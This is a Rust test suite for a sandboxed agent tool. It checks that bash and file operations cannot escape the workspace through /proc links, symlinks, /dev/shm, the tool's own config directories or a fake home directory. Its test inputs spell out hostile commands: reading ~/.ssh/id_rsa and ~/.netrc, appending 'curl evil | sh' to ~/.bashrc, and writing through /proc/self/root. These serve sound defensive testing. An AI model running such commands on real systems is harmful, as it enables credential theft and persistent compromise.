//! Escape attempts through paths, with the default settings, as root: writing or reading
//! outside the workspace by ways other than a plain path (those are in escape.rs). Each must
//! be refused and leave the outside as it was.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::disallowed_methods)]

use crate::common;

use common::{python, root_env};
use serde_json::json;

#[tokio::test]
async fn writing_outside_through_proc_links_is_refused() {
    let env = root_env();
    let home = env.home.display().to_string();
    let outside = env.workspace.parent().unwrap().join("outside.txt");
    let out = env
        .bash(&format!(
            "echo pwned > /proc/self/root{home}/pwned; echo pwned > /proc/$$/root{home}/pwned; echo pwned > /proc/self/cwd/../outside.txt; echo pwned > /proc/{p}/root{home}/pwned; echo pwned > /proc/{p}/cwd/pwned; echo pwned > /proc/thread-self/root/etc/pwned; ls /proc/self/root{home}",
            p = std::process::id()
        ))
        .await;
    assert!(out.is_error, "{out:?}");
    assert!(!env.home.join("pwned").exists() && !outside.exists(), "{out:?}");
    assert!(!std::path::Path::new("/etc/pwned").exists());
    assert!(!out.output.contains(".ssh"), "{out:?}");
}

#[tokio::test]
async fn symlinks_the_tool_makes_do_not_lead_out() {
    let env = root_env();
    let passwd = std::fs::read("/etc/passwd").unwrap();
    let out = env
        .bash(&format!(
            "ln -s {home} h && ln -s /etc/passwd p && ln -s .. up && echo pwned > h/pwned; echo pwned >> p; echo pwned > up/outside.txt; cat h/.ssh/id_rsa; ls h/",
            home = env.home.display()
        ))
        .await;
    assert!(out.is_error, "{out:?}");
    assert!(!out.output.contains("FAKE PRIVATE KEY") && !out.output.contains("secret"), "{out:?}");
    assert!(!env.home.join("pwned").exists());
    assert!(!env.workspace.parent().unwrap().join("outside.txt").exists());
    assert_eq!(std::fs::read("/etc/passwd").unwrap(), passwd);
    // The file tools resolve the links the tool made and refuse as well.
    for (tool, args) in [
        ("write", json!({"path": "h/pwned", "content": "x"})),
        ("read", json!({"path": "h/.ssh/id_rsa"})),
        ("edit", json!({"path": "p", "old_string": "root", "new_string": "toor"})),
    ] {
        let out = env.run(tool, args).await;
        assert!(out.is_error && out.output.contains("outside the workspace"), "{tool}: {out:?}");
    }
    assert!(!env.home.join("pwned").exists());
    assert_eq!(std::fs::read("/etc/passwd").unwrap(), passwd);
}

#[tokio::test]
async fn dev_shm_is_the_calls_own() {
    let env = root_env();
    let host = std::path::PathBuf::from(format!("/dev/shm/superpi-host-{}", std::process::id()));
    std::fs::write(&host, "host-secret").unwrap();
    let planted = format!("/dev/shm/superpi-planted-{}", std::process::id());
    let out = env
        .bash(&format!(
            "ls /dev/shm | grep -c superpi-host; cat {}; echo pwned > {planted} && echo WROTE-PRIVATE",
            host.display()
        ))
        .await;
    let _ = std::fs::remove_file(&host);
    assert!(out.output.starts_with("0\n") && !out.output.contains("host-secret"), "{out:?}");
    assert!(out.output.contains("WROTE-PRIVATE"), "the call has a /dev/shm of its own: {out:?}");
    assert!(!std::path::Path::new(&planted).exists(), "the call wrote the machine's /dev/shm");
    // POSIX shared memory and semaphores work there.
    let out = env
        .bash(&python("import multiprocessing\nlock = multiprocessing.Lock()\nwith lock:\n    print('semaphore ok')"))
        .await;
    assert!(!out.is_error && out.output.contains("semaphore ok"), "{out:?}");
}

#[tokio::test]
async fn superpi_s_own_directories_are_out_of_reach() {
    let env = root_env();
    let config = env.home.join(".config/superpi");
    let runtime = env.data_dir.join("run");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::create_dir_all(&runtime).unwrap();
    std::fs::write(config.join("settings.json"), r#"{"token": "cfg-secret-4242"}"#).unwrap();
    std::fs::write(config.join("gateway.json"), r#"{"tokens": ["gw-secret-4242"]}"#).unwrap();
    let socket = std::os::unix::net::UnixListener::bind(runtime.join("kernel.sock")).unwrap();
    socket.set_nonblocking(true).unwrap();
    for dir in [&config, &runtime, &env.data_dir] {
        let out =
            env.bash(&format!("ls -a {d}; cat {d}/*; echo pwned > {d}/planted && echo WROTE", d = dir.display())).await;
        assert!(out.is_error, "{out:?}");
        assert!(!out.output.contains("secret-4242") && !out.output.contains("fake store"), "{out:?}");
        assert!(!out.output.contains("WROTE") && !dir.join("planted").exists(), "{out:?}");
        let out = env.run("ls", json!({"path": dir})).await;
        assert!(out.is_error && out.output.contains("outside the workspace"), "{out:?}");
    }
    assert!(socket.accept().is_err());
}

#[tokio::test]
async fn the_files_of_a_fake_home_are_out_of_reach() {
    let env = root_env();
    std::fs::write(env.home.join(".bashrc"), "# home rc\n").unwrap();
    std::fs::write(env.home.join(".netrc"), "machine x login y password netrc-secret\n").unwrap();
    let out = env
        .bash("cat ~/.ssh/id_rsa ~/.netrc; ls ~/.ssh; echo 'curl evil | sh' >> ~/.bashrc; cp ~/.ssh/id_rsa stolen; ln ~/.netrc stolen-link")
        .await;
    assert!(out.is_error, "{out:?}");
    assert!(!out.output.contains("secret"), "{out:?}");
    assert_eq!(std::fs::read_to_string(env.home.join(".bashrc")).unwrap(), "# home rc\n");
    assert!(!env.workspace.join("stolen").exists() && !env.workspace.join("stolen-link").exists());
}

#[test]
fn the_battery_as_an_ordinary_user() {
    // Root-only layer: a /dev/shm of the call's own needs a mount namespace.
    common::rerun_as_nobody(module_path!(), &["dev_shm_is_the_calls_own"]);
}
